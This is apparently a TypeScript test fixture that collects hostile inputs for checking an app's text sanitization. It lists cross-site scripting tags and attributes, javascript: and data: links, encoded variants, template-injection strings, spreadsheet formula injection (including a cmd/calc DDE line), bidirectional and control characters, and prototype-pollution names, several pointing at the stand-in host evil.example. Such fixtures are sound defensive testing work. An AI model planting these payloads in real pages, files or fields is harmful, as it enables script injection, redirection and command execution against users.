// Texts that try to be more than text, of the kinds that the public collections hold.
// Code in them sets `window.__ran`; addresses in them lie at evil.example.

declare global {
  interface Window {
    __ran?: unknown;
  }
}

const elements = [
  '<script>__ran=1</script>',
  '</script><script>__ran=1</script>',
  '<script src="https://evil.example/a.js"></script>',
  '<img src="https://evil.example/a.png" onerror="__ran=1">',
  '<img src=x onerror=__ran=1//',
  '<IMG """><SCRIPT>__ran=1</SCRIPT>">',
  '<svg onload=__ran=1>',
  '<svg><script>__ran=1</script></svg>',
  '<svg><animate onbegin=__ran=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__ran=1&gt;">',
  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
  '<iframe src="javascript:parent.__ran=1">',
  '<object data="https://evil.example/a.svg"></object>',
  '<details open ontoggle=__ran=1>',
  '<input autofocus onfocus=__ran=1>',
  '<style>@import "https://evil.example/a.css"</style>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button>Go</button></form>',
  '<template shadowrootmode=open><script>__ran=1</script></template>',
  '</textarea></title></style></noscript></figure><img src=x onerror=__ran=1>',
  '<!--><img src=x onerror=__ran=1>-->',
  '<tip-tier-badge tier=3></tip-tier-badge>',
];

const attributes = [
  '" onmouseover="__ran=1" x="',
  "' onfocus='__ran=1' autofocus tabindex='0",
  '`onload=__ran=1`',
  '" style="background:url(https://evil.example/a.png)" x="',
  'expression(__ran=1)',
];

const links = [
  'javascript:__ran=1',
  'JaVaScRiPt:__ran=1',
  'java\tscript:__ran=1',
  '\u0001javascript:__ran=1',
  'javascript://example.org/%0a__ran=1',
  'data:text/html,<script>parent.__ran=1</script>',
  'data:application/json,{}',
  'vbscript:__ran=1',
  'blob:https://evil.example/a',
  'file:///etc/hosts',
  'view-source:https://evil.example/',
];

const entities = [
  '&lt;img src=x onerror=__ran=1&gt;',
  '&#60;script&#62;__ran=1&#60;/script&#62;',
  '&#x6A&#x61&#x76&#x61script:__ran=1',
  '%3Cscript%3E__ran=1%3C/script%3E',
  '\\u003cscript\\u003e__ran=1',
  '\ufe64script\ufe65__ran=1',
];

const templates = [
  "{{constructor.constructor('__ran=1')()}}",
  '${__ran=1}',
  '<%= __ran=1 %>',
  '#{__ran=1}',
  '{place, select, other {__ran=1}}',
  "'{'n, plural, one {#} other {#}'}'",
  '?lit$1234567890$<!--?lit$1234567890$-->',
  '$& $1 $` $$',
];

const formulas = ['=HYPERLINK("https://evil.example/","a")', "+1+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\uff1d1+1'];

const directions = [
  '\u202e63 devas\u202c',
  '\u202dABC',
  '\u2067ABC',
  '\u2068ABC',
  'ABC\u2066',
  'ABC\u2069\u2069',
  'ABC\u200f',
  '\u200e\u061cABC',
  '\u202a\u202b\u202e\u2066\u2067ABC',
];

const controls = [
  'A\u0000B',
  'A\u0008\u0008B',
  'A\u001b[2JB',
  'A\u007f\u0085B',
  'A\r\nB',
  'A\u2028B\u2029C',
  'A\ufeffB',
];

const characters = [
  '\ud800',
  'A\udfffB',
  'Z\u0351\u036b\u0343\u036a\u0302',
  '\u{1f469}\u200d\u{1f467}',
  '\ue000\ue001\ue002',
  '\uffff\ufffe',
];

const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'NaN', 'undefined', '[object Object]'];

export const payloads: readonly string[] = [
  ...elements,
  ...attributes,
  ...links,
  ...entities,
  ...templates,
  ...formulas,
  ...directions,
  ...controls,
  ...characters,
  ...names,
];

/** Characters that turn the text around them, or that no reader sees: none of them may come through. */
export const turning = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;
